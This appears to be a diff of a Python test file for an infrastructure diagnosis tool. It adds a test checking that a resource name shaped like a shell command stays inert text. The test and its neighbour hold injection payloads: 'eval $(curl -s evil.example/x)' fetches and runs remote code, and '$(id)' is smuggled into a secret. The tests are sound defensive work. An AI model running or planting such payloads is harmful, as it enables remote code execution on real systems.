@@ -13,12 +13,11 @@ from hypothesis import strategies as st
 
 from canary.diagnose import diagnose
 from canary.model import Diagnosis
-from canary.report.text import decision
 from tests.canary.support import platforms as p
 from tests.canary.support.operator import shell
 from tests.canary.support.operator.aws_cli import arrived
 from tests.canary.support.operator.intended import Noted, as_it_arrives, noted
-from tests.canary.support.operator.scenes import SCENES, SECRET
+from tests.canary.support.operator.scenes import HEALTHY, NAMES, SCENES, SECRET
 from tests.canary.support.operator.texts import hostile, placed, swapped, texts
 
 FEW, MANY = 60, 2000
@@ -86,7 +85,7 @@ def faults_of(written: Noted, answer: str = "") -> list[object]:
 
 def faults_of_entering(found: tuple[Diagnosis, ...], written: Noted, secret: str) -> list[object]:
     """Type the commands of decisions, and a secret where they ask for it; return what is wrong."""
-    asking = [x for d in found if (x := decision(d.remedy.decision)[1])]
+    asking = [x for d in found if (x := d.remedy.decision_command)]
     if not asking:
         return []
     typed = shell.typed(asking, entered=secret)
@@ -153,8 +152,21 @@ def test_a_secret_that_is_asked_for_is_stored_under_its_name(name: str, text: st
     )
     with noted() as written:
         found = diagnose(results, state, environment, before, p.NOW).diagnoses
-    assert any(decision(d.remedy.decision)[1] for d in found)
+    assert any(d.remedy.decision_command for d in found)
     assert faults_of_entering(found, written, "it's $(id) \\n") == []
+
+
+@pytest.mark.parametrize("told", [True, False], ids=["rules of before", "no past"])
+def test_a_name_that_reads_like_a_command_stays_a_text(told: bool) -> None:
+    name = "web read -rs VALUE; eval $(curl -s evil.example/x); unset VALUE"
+    before = swapped(HEALTHY, {"lb-registry": name})
+    state = p.change(before, "security_groups", "sg-lb-registry", ingress=())
+    url = f"https://registry.{NAMES.domain}/health"
+    results = [p.failed("registry.health", "registry", p.none(url, "connect-timeout"))]
+    past = before if told else None
+    (found, *_) = diagnose(results, state, p.environment(NAMES), past, p.NOW).diagnoses
+    assert name in f"{found.remedy.summary} {found.remedy.decision}"
+    assert (found.remedy.decision_command, found.remedy.fix) == ("", ())
 
 
 @pytest.mark.parametrize(
